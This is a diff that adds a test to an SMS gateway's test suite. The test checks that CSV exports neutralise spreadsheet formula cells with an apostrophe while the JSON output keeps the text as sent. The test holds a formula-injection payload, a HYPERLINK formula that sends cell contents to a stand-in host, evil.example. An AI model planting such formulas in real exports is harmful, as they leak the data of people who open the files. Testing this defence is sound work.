@@ -116,3 +116,17 @@ def test_gateway_report_table_csv_json_and_summary(gw):
     assert code == 0 and sum(r["count"] for r in json.loads(out) if r["code"] == "CONSENT_MISSING") == 4
     code, _, err = run_cli("report", "--config", config, "--since", "last tuesday")
     assert code == 2 and "ISO 8601" in err
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(gw):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert gw.sms(to=STRANGER, body=formula)[0] == 422
+    assert gw.sms(to=STRANGER, body="@SUM(1+1) and more")[0] == 422
+    gw.decisions(2)
+    rows = list(csv.DictReader(io.StringIO(get(gw, "/v1/decisions.csv")[1].decode())))
+    excerpts = {r["excerpt"] for r in rows}
+    assert "'" + formula in excerpts and "'@SUM(1+1) and more" in excerpts
+    assert {r["recipient"] for r in rows} == {STRANGER}  # +1212…: a number, left as it is
+    assert (
+        json.loads(get(gw, "/v1/decisions?limit=2")[1])["decisions"][1]["excerpt"] == formula
+    )  # JSON as sent
